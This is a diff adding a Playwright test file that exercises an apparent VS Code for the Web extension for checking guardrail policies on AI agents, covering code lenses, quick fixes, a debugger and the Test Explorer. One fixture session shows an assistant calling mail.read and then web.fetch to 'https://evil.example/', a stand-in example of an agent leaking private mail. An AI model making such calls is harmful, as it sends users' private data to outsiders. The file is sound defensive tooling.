@@ -1,0 +1,184 @@
+/** What an author does in VS Code for the Web, on a virtual workspace: all by the page, as there is no other way in. */
+import assert from 'node:assert/strict';
+import type { FrameLocator, Locator, Page } from 'playwright-core';
+import { screenshot, traceView } from '../suite/page.js';
+
+const CLAIM = 'mail leaves only through a person';
+
+/** @param page shows mail-assistant/first-try.guardrail. A test begins where the one before ended. */
+export function tests(page: Page): void {
+    const view: FrameLocator = traceView(page);
+    const lens = (text: string | RegExp): Locator => page.locator('.codelens-decoration a', { hasText: text });
+    const line = (text: string): Locator => page.locator('.monaco-editor .view-line', { hasText: text }).first();
+
+    describe('VS Code for the Web', () => {
+        afterEach(async function () {
+            if (this.currentTest?.state === 'failed') {
+                await screenshot(page, 'web-failure');
+            }
+        });
+
+        it('checks the policy that is open', async () => {
+            await lens('violated · show session').waitFor();
+            await lens('witnessed · show session').waitFor();
+            await page.locator('.statusbar-item', { hasText: 'Guardrail: 1 of 2 claims violated' }).waitFor();
+            await page.locator('.monaco-editor .squiggly-error').first().waitFor();
+        });
+
+        it('shows the session', async () => {
+            await lens('violated · show session').click();
+            await view.locator('.step.judged').waitFor();
+            assert.equal(await view.locator('.verdict').textContent(), 'violated');
+            assert.equal(await view.locator('h1').textContent(), CLAIM);
+            assert.deepEqual(await view.locator('.step .call').allTextContents(), [
+                'mail.read(folder: "x")',
+                'web.fetch(url: "https://evil.example/")'
+            ]);
+            await screenshot(page, 'web-session');
+        });
+
+        it('leads from a step to the rule in the editor', async () => {
+            await view.locator('.step .rule-link').first().click();
+            await page.locator('.statusbar-item', { hasText: 'Ln 18' }).waitFor();
+        });
+
+        it('draws the session, and the policy', async () => {
+            await view.getByRole('tab', { name: 'Sequence' }).click();
+            await view.locator('.sequence .row').first().waitFor();
+            assert.deepEqual(await view.locator('.head text').allTextContents(), ['assistant', 'mail', 'web']);
+            await screenshot(page, 'web-sequence');
+            // Drawn by a script that is loaded for it.
+            await view.getByRole('tab', { name: 'Policy' }).click();
+            await view.locator('svg.graph').first().waitFor();
+            assert.match((await view.locator('.flow').allTextContents()).join('\n'), /free\s*private to web\.fetch/);
+            await screenshot(page, 'web-policy');
+            await view.getByRole('tab', { name: 'Steps' }).click();
+        });
+
+        it('tells of names, and offers them', async () => {
+            await line('never external').getByText('external', { exact: true }).hover();
+            await page.locator('.monaco-hover', { hasText: /trait external.*web\.fetch, web\.post/ }).waitFor();
+            await line('possible mail.read').click();
+            await page.keyboard.press('ControlOrMeta+End');
+            await page.keyboard.type('deny mail.');
+            await page.keyboard.press('Control+Space');
+            await page.locator('.suggest-widget .monaco-list-row', { hasText: 'mail.draft' }).first().waitFor();
+            await page.keyboard.press('Escape');
+        });
+
+        it('mends a misspelt name', async () => {
+            await page.keyboard.type('raed');
+            await quickFix('Change to `mail.read`');
+            await line('deny mail.read').waitFor();
+            await revert();
+        });
+
+        it('explains a message with the page of its code', async () => {
+            await line('claim "mail leaves').click();
+            await quickFix(/^Explain GR\d{3}/);
+            const preview = page.locator('.tab', { hasText: /Preview GR\d{3}/ });
+            await preview.waitFor();
+            await view.locator('h1', { hasText: /^GR\d{3}/ }).waitFor();
+            await close(preview);
+        });
+
+        it('finds a repair, and the claim holds after it', async () => {
+            await line('claim "mail leaves').click();
+            // Found already, or looked for now.
+            await quickFix(/holds after this change|^Look for a change of the rules/);
+            await lens(/^holds/).waitFor();
+            await view.locator('.verdict', { hasText: 'holds' }).waitFor();
+            await screenshot(page, 'web-repaired');
+            await revert();
+            await lens('violated · show session').waitFor();
+            await close(page.locator('.tab', { hasText: 'Session:' }));
+        });
+
+        it('plays an agent by hand', async () => {
+            await lens('Simulate').click();
+            await view
+                .getByRole('button', { name: /^Play assistant calls mail\.read/ })
+                .first()
+                .click();
+            await view.locator('.step .call').first().waitFor();
+            await screenshot(page, 'web-simulator');
+            await close(page.locator('.tab', { hasText: 'Simulator' }));
+        });
+
+        it('steps through the session in the debugger', async () => {
+            await lens('Debug').first().click();
+            const stack = page.locator('.debug-call-stack .monaco-list-row');
+            await stack.filter({ hasText: 'The session starts' }).waitFor();
+            await page.keyboard.press('F10');
+            await stack.filter({ hasText: 'assistant calls mail.read' }).waitFor();
+            await page.locator('.debug-variables').getByText('Labels').first().waitFor();
+            await screenshot(page, 'web-debugger');
+            await page.keyboard.press('Shift+F5');
+            await page.locator('.debug-toolbar').waitFor({ state: 'hidden' });
+        });
+
+        it('runs claims in the Test Explorer', async () => {
+            await line('claim "mail leaves').click();
+            await command('Test: Run Tests in Current File');
+            await command('Testing: Focus on Test Explorer View');
+            const test = (name: string, result: string): Locator =>
+                page.locator(`.test-explorer [role=treeitem][aria-label^="${name}"][aria-label*="${result}"]`);
+            await test(CLAIM, '(Failed)').waitFor();
+            await test('it can still answer mail', '(Passed)').waitFor();
+            await screenshot(page, 'web-tests');
+        });
+
+        it('does not speak of what a browser cannot do', async () => {
+            await command('Welcome: Open Walkthrough');
+            await page.locator('.quick-input-list .monaco-list-row', { hasText: 'Your first policy' }).click();
+            const steps = page.locator('.getting-started-step .step-title');
+            await steps.first().waitFor();
+            assert.deepEqual(await steps.allTextContents(), [
+                'Open a policy',
+                'See what breaks it',
+                'Keep it as a test',
+                'Repair the rule'
+            ]);
+        });
+    });
+
+    async function command(title: string): Promise<void> {
+        await page.keyboard.press('F1');
+        await page.locator('.quick-input-box input').fill(`>${title}`);
+        await page.locator('.quick-input-list .monaco-list-row', { hasText: title }).first().click();
+    }
+
+    /** Applies the first one of that name at the cursor, once it is offered. */
+    async function quickFix(name: string | RegExp): Promise<void> {
+        const menu = page.locator('.action-widget');
+        const none = page.locator('.monaco-editor-overlaymessage');
+        const fix = menu.locator('.monaco-list-row', { hasText: name }).first();
+        for (let tries = 0; tries < 10; tries++) {
+            await page.keyboard.press('ControlOrMeta+.');
+            await menu.or(none).first().waitFor();
+            if (await fix.isVisible()) {
+                // By keys: until the mouse has moved, a click that opened the menu is kept from choosing of it.
+                while (!(await menu.locator('.monaco-list-row.focused', { hasText: name }).isVisible())) {
+                    await page.keyboard.press('ArrowDown');
+                }
+                await page.keyboard.press('Enter');
+                return;
+            }
+            await page.keyboard.press('Escape');
+            await menu.or(none).first().waitFor({ state: 'hidden' });
+            await page.waitForTimeout(500);
+        }
+        assert.fail(`${name} is not offered`);
+    }
+
+    async function revert(): Promise<void> {
+        await command('File: Revert File');
+        await page.locator('.tab.dirty').waitFor({ state: 'detached' });
+    }
+
+    async function close(tab: Locator): Promise<void> {
+        await tab.hover();
+        await tab.locator('.codicon-close').click();
+        await tab.waitFor({ state: 'detached' });
+    }
+}
